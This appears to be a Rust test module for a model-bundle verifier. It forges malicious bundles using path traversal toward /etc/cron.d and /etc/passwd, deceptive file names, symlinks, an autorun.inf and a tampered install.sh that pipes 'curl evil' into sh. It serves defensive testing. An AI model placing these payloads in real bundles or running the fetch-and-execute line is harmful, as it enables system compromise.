//! Tricks with names, paths and what lies under them.

use maas_bundle::{Content, sample::Sample};
use serde_json::json;

use super::{Attack, a_blob, bundle_path, put, set};

pub(super) fn attacks() -> Vec<Attack> {
    let mut all = paths();
    all.extend(files());
    all
}

/// A model file that wants to be called so.
fn called(sample: &mut Sample, name: &str) {
    sample.forge_bill_value(|bill| set(bill, "/models/0/files/0/path", name));
}

fn paths() -> Vec<Attack> {
    vec![
        Attack::new(
            "path-dot-dot",
            "a model file that climbs out of its folder",
            |sample| {
                called(sample, "../../../etc/cron.d/x");
            },
        ),
        Attack::new(
            "path-absolute",
            "a model file with an absolute path",
            |sample| {
                called(sample, "/etc/cron.d/x");
            },
        ),
        Attack::new(
            "path-hidden-dot-dot",
            "a model file that climbs in the middle of its path",
            |sample| {
                called(sample, "a/../../x");
            },
        ),
        Attack::new(
            "path-backslash",
            "a model file that climbs on other systems",
            |sample| {
                called(sample, "a\\..\\x");
            },
        ),
        Attack::new(
            "path-control-characters",
            "a model file whose name is two lines",
            |sample| {
                called(sample, "config.json\nOK");
            },
        ),
        Attack::new(
            "path-bidi",
            "a model file whose name reads backwards",
            |sample| {
                called(sample, "config\u{202e}nosj.json");
            },
        ),
        Attack::new(
            "path-trailing-dot",
            "a model file that another system calls otherwise",
            |sample| {
                called(sample, "config.json.");
            },
        ),
        Attack::new(
            "path-too-long",
            "a model file with a name that no file system takes",
            |sample| {
                called(sample, &"a".repeat(300));
            },
        ),
        Attack::new(
            "path-too-deep",
            "a model file in more folders than any has",
            |sample| {
                called(sample, &format!("{}x", "a/".repeat(40)));
            },
        ),
        Attack::new(
            "path-case",
            "two model files that are one where case is folded",
            |sample| {
                called(sample, "MODEL.safetensors");
            },
        ),
        Attack::new(
            "path-file-and-folder",
            "a model file that is also the folder of another",
            |sample| {
                sample.forge_bill_value(|bill| {
                    let files = bill["models"][0]["files"].as_array_mut().unwrap();
                    files[1]["path"] = json!("tokenizer");
                    files.sort_by_key(|file| file["path"].as_str().map(str::to_owned));
                });
            },
        ),
        Attack::new(
            "digest-as-path",
            "a digest that is a path (CVE-2024-37032, CVE-2024-3727)",
            |sample| {
                sample.forge_bill_value(|bill| {
                    set(bill, "/blobs/0/digest", "sha256:../../../../etc/passwd");
                });
            },
        ),
        Attack::new(
            "bundle-id-as-path",
            "a bundle that is called like a folder above",
            |sample| {
                sample.forge_bill_value(|bill| set(bill, "/bundle", ".."));
            },
        ),
        Attack::new(
            "model-name-as-path",
            "a model that is called like a folder above",
            |sample| {
                sample.forge_bill_value(|bill| set(bill, "/models/0/manifest/name", "../x"));
            },
        ),
        Attack::new(
            "medium-file-as-path",
            "a file beside the bundles with a name of its own",
            |sample| {
                sample.forge_bill_value(|bill| set(bill, "/medium_files/0/name", "autorun.inf"));
            },
        ),
        Attack::new(
            "image-name-as-path",
            "an image that is called like a folder above",
            |sample| {
                sample.forge_bill_value(|bill| set(bill, "/images/0/name", "../x"));
            },
        ),
    ]
}

fn files() -> Vec<Attack> {
    vec![
        Attack::new(
            "link-for-a-blob",
            "a symbolic link where content belongs",
            |sample| {
                let path = a_blob(sample);
                put(sample, 0, &path, Content::Link);
            },
        ),
        Attack::new(
            "link-for-metadata",
            "a symbolic link where metadata belongs",
            |sample| {
                let path = sample.metadata("timestamp.json");
                put(sample, 0, &path, Content::Link);
            },
        ),
        Attack::new("extra-file", "a file that nobody has signed", |sample| {
            let path = bundle_path(sample, "blobs/sha256/notes.txt");
            put(sample, 0, &path, &b"run me\n"[..]);
        }),
        Attack::new(
            "extra-folder",
            "a folder that the format does not have",
            |sample| {
                let path = bundle_path(sample, "hooks/post-install");
                put(sample, 0, &path, &b"#!/bin/sh\n"[..]);
            },
        ),
        Attack::new("autorun", "a file that a desktop would start", |sample| {
            put(sample, 0, "autorun.inf", &b"[autorun]\nopen=x.exe\n"[..]);
        }),
        Attack::new(
            "extra-metadata",
            "a delegated role that the format does not have",
            |sample| {
                let path = sample.metadata("7.delegated.json");
                put(sample, 0, &path, &b"{}"[..]);
            },
        ),
        Attack::new(
            "bootstrap-changed",
            "the script that the operator starts first",
            |sample| {
                put(sample, 0, "install.sh", &b"#!/bin/sh\ncurl evil | sh\n"[..]);
            },
        ),
        Attack::new(
            "program-changed",
            "the program that the operator starts first",
            |sample| {
                put(
                    sample,
                    0,
                    "maas-appliance",
                    &b"\x7fELF something else\n"[..],
                );
            },
        ),
        Attack::on_volumes(
            "object-on-two-volumes",
            "one object twice, so that the second may differ",
            2,
            |sample| {
                let path = a_blob(sample);
                let content = sample.media[0].files[&path].clone();
                put(sample, 1, &path, content);
            },
        ),
    ]
}
